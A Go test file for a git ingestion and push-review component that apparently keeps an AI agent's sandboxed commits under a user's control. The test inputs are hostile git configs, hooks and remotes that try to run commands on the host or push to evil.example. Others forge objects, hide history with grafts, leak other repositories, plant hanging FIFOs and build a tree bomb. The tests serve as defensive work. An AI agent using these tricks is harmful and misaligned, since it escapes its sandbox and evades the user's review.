package gitops

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fletch/gitops/gittest"
	"fletch/state"
)

// rawCommit writes a commit object with any tree and parents, whether they
// are there or not.
const rawCommit = `
raw() { # TREE, with HEAD as its parent
	{ echo "tree $1"; echo "parent $(git rev-parse HEAD)"
	  echo "author A <a@b> 1700000000 +0000"; echo "committer A <a@b> 1700000000 +0000"; echo; echo raw; } |
	git hash-object -t commit -w --stdin --literally
}
`

// inQuarantine reports whether the quarantine itself has an object.
func (f *fixture) inQuarantine(id string) bool {
	_, err := gittest.Try(f.t, "/", "--git-dir="+f.git.Home.Quarantine(string(f.agent.ID)), "cat-file", "-e", id)
	return err == nil
}

func TestObjectsOfOtherRepositoriesCannotBeBorrowed(t *testing.T) { // E1
	other := gittest.Repo(t, map[string]string{"key.txt": "TOPSECRET"})
	tree := gittest.Run(t, other, "rev-parse", "HEAD^{tree}")
	f := setup(t, nil).open()
	head := state.Commit(f.inSandbox(rawCommit + "echo " + other + "/.git/objects >> .git/objects/info/alternates; raw " + tree))
	if err := f.git.Ingest(t.Context(), f.agent, head); !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "alternate") {
		t.Errorf("ingested a commit with another repository's tree: %v", err)
	}
	if f.inQuarantine(tree) {
		t.Error("the tree is in the quarantine")
	}
	if _, err := f.plan(head, false); err == nil {
		t.Error("planned to push it")
	}
}

func TestALinkToAnotherRepositoryShowsNothing(t *testing.T) { // E2, E3
	other := gittest.Repo(t, map[string]string{"key.txt": "TOPSECRET"})
	secret := gittest.Run(t, other, "rev-parse", "HEAD")
	f := setup(t, nil).open()
	f.inSandbox("mkdir -p .git/refs/heads; ln -s " + other + "/.git/refs/heads/main .git/refs/heads/leak; echo 'ref: refs/heads/leak' > .git/HEAD")
	if head, err := f.git.Head(t.Context(), f.agent); err == nil {
		t.Errorf("head is %s, the other repository's is %s", head, secret)
	}
	f.inSandbox("rm -rf .git; echo 'gitdir: " + other + "/.git' > .git")
	if head, err := f.git.Head(t.Context(), f.agent); err == nil {
		t.Errorf("head is %s, the other repository's is %s", head, secret)
	}
	if err := f.git.Ingest(t.Context(), f.agent, state.Commit(secret)); err == nil {
		t.Error("ingested the other repository's commit")
	}
}

func TestAForgedObjectIsRefused(t *testing.T) { // E4
	f := setup(t, nil).open()
	head := state.Commit(f.inSandbox(rawCommit + `
good=$(echo good | git hash-object -w --stdin); evil=$(echo EVIL | git hash-object -w --stdin)
file() { echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }
tree=$(printf '100644 blob %s\ta\n' $good | git mktree)
chmod u+w $(file $good); cp $(file $evil) $(file $good)
test "$(git cat-file -p $good)" = EVIL
raw $tree`))
	err := f.git.Ingest(t.Context(), f.agent, head)
	if !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "did not receive expected object") || f.inQuarantine(string(head)) && f.git.onlyRef(f, headRef) == head {
		t.Errorf("ingested an object that is not what its name says: %v", err)
	}
}

func (g Git) onlyRef(f *fixture, name string) state.Commit {
	q, err := g.quarantine(f.agent.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	return q.ref(name)
}

func TestABaseFileCannotBeShownAsSomethingElse(t *testing.T) { // E5
	f := setup(t, map[string]string{"README.md": "true\n"}).open()
	head := state.Commit(f.inSandbox(`
base=$(git rev-parse HEAD:README.md); fake=$(echo FAKE | git hash-object -w --stdin)
file() { echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }
mkdir -p $(dirname $(file $base)); cp $(file $fake) $(file $base)
test "$(git cat-file -p $base)" = FAKE
echo changed > README.md; git commit -qam work; git rev-parse HEAD`))
	p := f.mustPlan(head, false)
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || !strings.Contains(patch.Diff, "-true") || strings.Contains(patch.Diff, "FAKE") {
		t.Errorf("the diff is %v:\n%s", err, patch.Diff)
	}
}

func TestAMergeWithAPrivateCommitIsSaid(t *testing.T) { // E6
	f := setup(t, nil)
	gittest.Run(t, f.repo, "checkout", "--quiet", "-b", "private")
	private := gittest.Commit(t, f.repo, "private", map[string]string{"PRIVNOTE": "secret"})
	gittest.Run(t, f.repo, "checkout", "--quiet", "main")
	f.open()
	head := state.Commit(f.inSandbox("git commit-tree -p HEAD -p " + private + " -m merge HEAD^{tree}"))
	p := f.mustPlan(head, false)
	if len(p.Files) != 0 {
		t.Errorf("the difference is %v", p.Files)
	}
	wantFlag(t, p, "unpushed", "publishes 1 commit of yours that you never pushed ("+private[:7]+")")
	wantFlag(t, p, "merge", "merge commit")
	if len(p.Red()) != 1 {
		t.Errorf("red flags %v", p.Red())
	}
}

func TestADanglingCommitIsSaid(t *testing.T) {
	f := setup(t, nil)
	dangling := gittest.Commit(t, f.repo, "amended away", map[string]string{"PRIVNOTE": "secret"})
	gittest.Run(t, f.repo, "reset", "--quiet", "--hard", "HEAD~1")
	f.open()
	head := state.Commit(f.inSandbox("git commit-tree -p HEAD -p " + dangling + " -m merge HEAD^{tree}"))
	// Also when its objects were copied first, and when the user's
	// repository is gone.
	f.inSandbox("git unpack-objects < /dev/null 2>/dev/null || true; git repack -qad 2>/dev/null || true")
	want := "publishes 1 commit of yours that you never pushed (" + dangling[:7] + ")"
	wantFlag(t, f.mustPlan(head, false), "unpushed", want)
	if err := os.RemoveAll(f.repo); err != nil {
		t.Fatal(err)
	}
	wantFlag(t, f.mustPlan(head, false), "unpushed", want)
}

func TestAPrivateTreeWithoutItsCommitIsSaid(t *testing.T) {
	f := setup(t, map[string]string{"a": "1\n"})
	gittest.Run(t, f.repo, "checkout", "--quiet", "-b", "private")
	private := gittest.Commit(t, f.repo, "private", map[string]string{"notes/PRIVNOTE": "secret"})
	tree := gittest.Run(t, f.repo, "rev-parse", private+":notes")
	gittest.Run(t, f.repo, "checkout", "--quiet", "main")
	f.open()
	head := state.Commit(f.inSandbox("git read-tree --prefix=mine/ " + tree + "; git checkout -q -- mine; git commit -qm work; git rev-parse HEAD"))
	p := f.mustPlan(head, false)
	wantFlag(t, p, "unpushed", "publishes 2 objects of yours that you never pushed ("+p.Flags[0].Text[strings.Index(p.Flags[0].Text, "(")+1:])

	// Going back to what was there before is no secret.
	f.inSandbox("git reset -q --hard " + string(f.src.Base.Commit))
	f.commit("echo 2 > a")
	head = f.commit("echo 1 > a")
	if p := f.mustPlan(head, false); len(p.Red()) != 0 {
		t.Errorf("red flags %v", p.Red())
	}
}

func TestAPushIsOfTheCommitThatWasSeen(t *testing.T) { // E7
	f := setup(t, nil).open()
	seen := f.commit("echo good > a")
	p := f.mustPlan(seen, false)
	f.commit("echo evil > a")
	f.inSandbox("git branch -f fletch/amber-river HEAD")
	f.mustPush(p)
	if f.at("fletch/amber-river") != string(seen) {
		t.Errorf("pushed %s, seen %s", f.at("fletch/amber-river"), seen)
	}
}

func TestReplacedAndGraftedHistoryIsShownAsItIs(t *testing.T) { // E7b
	f := setup(t, nil).open()
	f.commit("echo hidden > hidden")
	bad := f.commit("echo bad > a")
	f.inSandbox("unset GIT_NO_REPLACE_OBJECTS; nice=$(git commit-tree -p " + string(f.src.Base.Commit) + " -m nice HEAD~2^{tree}); git replace " + string(bad) + " $nice; test \"$(git log -1 --format=%s " + string(bad) + ")\" = nice")
	p := f.mustPlan(bad, false)
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || len(p.Commits) != 2 || p.Commits[0].Subject != "work" || !strings.Contains(patch.Diff, "+bad") || !strings.Contains(patch.Diff, "+hidden") {
		t.Errorf("planned %+v, %v\n%s", p, err, patch.Diff)
	}
}

func TestAGraftThatHidesACommitIsRefused(t *testing.T) { // E8
	f := setup(t, nil).open()
	f.commit("echo hidden > hidden")
	bad := f.commit("echo bad > a")
	f.inSandbox("echo " + string(bad) + " " + string(f.src.Base.Commit) + " > .git/info/grafts; test $(git rev-list --count HEAD) = 2")
	if _, err := f.plan(bad, false); !errors.Is(err, ErrBroken) {
		t.Errorf("planned a commit without its history: %v", err)
	}
}

func TestAShallowWorkspaceIsRefusedNotStale(t *testing.T) { // E8, trap 1
	f := setup(t, nil).open()
	first := f.commit("echo 1 > a")
	if err := f.git.Ingest(t.Context(), f.agent, first); err != nil {
		t.Fatal(err)
	}
	second := f.commit("echo 2 > a")
	f.inSandbox("echo " + string(second) + " > .git/shallow")
	if err := f.git.Ingest(t.Context(), f.agent, second); !errors.Is(err, ErrBroken) {
		t.Errorf("ingested a commit without its history: %v", err)
	}
	if _, err := f.plan(second, false); err == nil {
		t.Error("planned it")
	}
}

func TestWhatAnEarlierCommitCarriesIsShown(t *testing.T) {
	f := setup(t, nil).open()
	f.commit("echo PASSWORD=hunter2 > env")
	head := f.commit("rm env; echo x > x")
	p := f.mustPlan(head, false)
	wantFlag(t, p, "hidden", "1 file only in earlier commits")
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || !strings.Contains(patch.Diff, "+PASSWORD=hunter2") {
		t.Errorf("the diff is %v:\n%s", err, patch.Diff)
	}
}

func TestAPlantNeverRunsOnTheHost(t *testing.T) {
	f := setup(t, nil).open()
	mark := filepath.Join(t.TempDir(), "MARK")
	head := f.commit("echo 1 > a")
	touch := "touch " + mark
	for _, plant := range []string{
		"git config core.fsmonitor '" + touch + "'",
		"git config core.hooksPath /tmp; git config core.pager '" + touch + "'; git config core.sshCommand '" + touch + "'; git config core.gitProxy '" + touch + "'; git config core.askPass '" + touch + "'",
		"mkdir -p .git/hooks; for h in pre-push post-checkout reference-transaction post-index-change pre-receive; do printf '#!/bin/sh\\n" + touch + "\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done",
		"git config filter.x.clean '" + touch + "'; git config filter.x.smudge '" + touch + "'; echo '* filter=x diff=x merge=x' > .gitattributes; git config diff.x.textconv '" + touch + "'; git config diff.x.command '" + touch + "'; git config diff.external '" + touch + "'",
		"git config url.https://evil.example/.insteadOf " + f.remote[:10] + "; git config remote.origin.pushurl https://evil.example/x; git config http.proxy http://evil.example; git config credential.helper '!" + touch + "'; git config core.alternateRefsCommand '" + touch + "'",
		"git config extensions.partialClone evil; git config remote.evil.promisor true; git config remote.evil.url 'ext::sh -c " + mark + "'; git config remote.evil.uploadpack '" + touch + "'; git config protocol.ext.allow always",
		"git config gpg.program '" + touch + "'; git config log.showSignature true; git config uploadpack.packObjectsHook '" + touch + "'",
		"git config core.worktree " + f.repo,
		"rm -rf .git; ln -s " + f.repo + "/.git .git",
	} {
		t.Run(plant[:min(40, len(plant))], func(t *testing.T) {
			defer f.keep()()
			f.inSandbox(plant)
			_, _ = f.git.Head(t.Context(), f.agent)
			_ = f.git.Ingest(t.Context(), f.agent, head)
			_, _ = f.git.Measure(t.Context(), f.agent)
			_, _ = f.git.Changes(t.Context(), f.agent)
			if p, err := f.plan(head, false); err == nil && p.Remote != f.remote {
				t.Errorf("planned a push to %s", p.Remote)
			}
			if _, err := os.Lstat(mark); err == nil {
				t.Error("the agent's command ran on the host")
			}
		})
	}
	f.mustPush(f.mustPlan(head, false))
	if _, err := os.Lstat(mark); err == nil {
		t.Error("the agent's command ran on the host")
	}
}

// keep copies the workspace and returns what puts the copy back.
func (f *fixture) keep() (restore func()) {
	f.t.Helper()
	ws, copied := f.agent.Workspace, f.t.TempDir()
	if out, err := tarCopy(ws, copied); err != nil {
		f.t.Fatal(err, out)
	}
	return func() {
		if err := os.RemoveAll(ws); err != nil {
			f.t.Fatal(err)
		}
		if out, err := tarCopy(copied, ws); err != nil {
			f.t.Fatal(err, out)
		}
	}
}

func TestAWorkspaceThatHangsIsGivenUp(t *testing.T) {
	f := setup(t, nil).open()
	head := f.commit("echo 1 > a")
	reads := map[string]func() error{
		"head":    func() error { _, err := f.git.Head(t.Context(), f.agent); return err },
		"ingest":  func() error { return f.git.Ingest(t.Context(), f.agent, head) },
		"measure": func() error { _, err := f.git.Measure(t.Context(), f.agent); return err },
	}
	for plant, hangs := range map[string][]string{
		"rm .git/HEAD; mkfifo .git/HEAD":                                       {"head", "ingest", "measure"},
		"rm .git/config; mkfifo .git/config":                                   {"head"},
		"rm .git/objects/info/alternates; mkfifo .git/objects/info/alternates": {"ingest"},
		"mkfifo .git/shallow":                                                  {"ingest"},
		"mkfifo .gitattributes":                                                {"measure"},
		"mkfifo .gitignore":                                                    {"measure"},
	} {
		t.Run(plant, func(t *testing.T) {
			defer f.keep()()
			f.git.Patience = time.Minute
			f.inSandbox(plant)
			f.git.Patience = 2 * time.Second
			for _, name := range hangs {
				if err := reads[name](); !errors.Is(err, ErrTimeout) {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
	f.git.Patience = time.Minute
	for _, plant := range []string{"rm .git/index; mkfifo .git/index", "rm -rf .git; mkfifo .git", "rm -rf .git"} {
		t.Run(plant, func(t *testing.T) {
			defer f.keep()()
			f.inSandbox(plant)
			if _, err := f.git.Measure(t.Context(), f.agent); err == nil && strings.Contains(plant, "-rf") {
				t.Error("measured a workspace that is no repository")
			}
		})
	}
}

func TestOddNamesAreFlaggedAndNeverRaw(t *testing.T) {
	f := setup(t, nil).open()
	head := f.commit("printf x > \"$(printf 'a\\033]52;c;x\\007b')\"; printf x > \"$(printf 'r\\342\\200\\256txt')\"; printf x > \"$(printf 'bad\\377')\"; printf x > \"$(printf 'new\\nline')\"; echo ok > 'ü ok'")
	p := f.mustPlan(head, false)
	wantFlag(t, p, "control", "control or bidi characters in 4 names")
	if len(p.Files) != 5 {
		t.Errorf("files %+v", p.Files)
	}
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || strings.ContainsAny(patch.Diff, "\x1b\x07") {
		t.Errorf("diff %q, %v", patch.Diff, err)
	}
	for _, flag := range p.Flags {
		if hasUnsafe(flag.Text) {
			t.Errorf("flag %q", flag.Text)
		}
	}
}

func TestWarningsAreSaidInFletchsWords(t *testing.T) {
	f := setup(t, nil).open()
	sub := strings.Repeat("1", 40)
	head := f.commit("mkdir -p .github/workflows .fletch/agents; echo on: push > .github/workflows/ci.yml; echo x > .fletch/agents/a.toml; echo '#!/bin/sh' > run; chmod +x run; ln -s /etc/passwd link; " +
		"printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 5\\n' 1 > big.psd; git config user.name Eve; git update-index --add --cacheinfo 160000," + sub + ",mod; head -c 11000000 /dev/urandom > large")
	p := f.mustPlan(head, false)
	for name, text := range map[string]string{
		"unchecked": "11000000 bytes could not be checked (too large)", "ci": "1 CI workflow", "executable": "1 executable", "symlink": "1 symlink",
		"profile": "1 fletch profile", "large": "1 file over 10 MB", "lfs": "LFS pointer without its file", "author": "commit author is not you",
	} {
		wantFlag(t, p, name, text)
	}
	patch, err := f.git.Patch(t.Context(), f.agent, p)
	if err != nil || len(patch.Omitted) != 1 || patch.Omitted[0] != "large: 11.0 MB, too large to show" {
		t.Errorf("omitted %q, %v", patch.Omitted, err)
	}
	orphan := state.Commit(f.inSandbox("git commit-tree -m orphan HEAD^{tree}"))
	wantFlag(t, f.mustPlan(orphan, false), "history", "rewrites history it did not make")
}

func TestATreeBombIsRefusedQuickly(t *testing.T) {
	f := setup(t, nil).open()
	head := state.Commit(f.inSandbox(rawCommit + `
blob=$(echo x | git hash-object -w --stdin); kind="100644 blob"
for level in 1 2 3 4 5 6 7 8 9; do
	blob=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf '%s %s\t%s\n' "$kind" $blob $i; done | git mktree); kind="040000 tree"
done
raw $blob`))
	began := time.Now()
	if _, err := f.plan(head, false); !errors.Is(err, ErrTooLarge) {
		t.Errorf("planned a billion files: %v", err)
	}
	if took := time.Since(began); took > 45*time.Second {
		t.Errorf("it took %s", took)
	}
}

func TestTooManyBytesAreCutOff(t *testing.T) {
	f := setup(t, nil).open()
	f.git.Quota = 1 << 20
	head := f.commit("head -c 5000000 /dev/urandom > a")
	if err := f.git.Ingest(t.Context(), f.agent, head); !errors.Is(err, ErrQuota) {
		t.Errorf("ingested 5 MB with a quota of 1: %v", err)
	}
}

func TestALongDiffIsCutBetweenFilesAndSaid(t *testing.T) {
	f := setup(t, nil).open()
	head := f.commit("for i in 1 2 3 4; do yes some text of line $i | head -c 3000000 > f$i; done")
	patch, err := f.git.Patch(t.Context(), f.agent, f.mustPlan(head, false))
	if err != nil || len(patch.Omitted) != 1 || !strings.Contains(patch.Omitted[0], "longer than 8 MiB") || len(patch.Diff) > maxDiff {
		t.Fatalf("omitted %q, %d bytes, %v", patch.Omitted, len(patch.Diff), err)
	}
	shown := strings.Count(patch.Diff, "diff --git ")
	if want := fmt.Sprintf("%d more files", 4-shown); !strings.HasPrefix(patch.Omitted[0], want) {
		t.Errorf("omitted %q, %d are shown", patch.Omitted, shown)
	}
}

func TestTreesThatNoCheckoutShouldMeetAreRefused(t *testing.T) {
	f := setup(t, nil).open()
	for name, entry := range map[string]string{
		"a repository inside": `040000 tree $sub\t.git`, "in another case": `040000 tree $sub\t.GIT`, "in its short form": `100644 blob $blob\tgit~1`,
		"the folder above": `040000 tree $sub\t..`, "modules by a link": `120000 blob $blob\t.gitmodules`,
	} {
		head := state.Commit(f.inSandbox(rawCommit + "blob=$(echo x | git hash-object -w --stdin); sub=$(printf \"100644 blob $blob\\tconfig\\n\" | git mktree); raw $(printf \"" + entry + "\\n\" | git mktree)"))
		if err := f.git.Ingest(t.Context(), f.agent, head); !errors.Is(err, ErrBroken) || !strings.Contains(err.Error(), "fsck error") {
			t.Errorf("%s: %v", name, err)
		}
	}
}
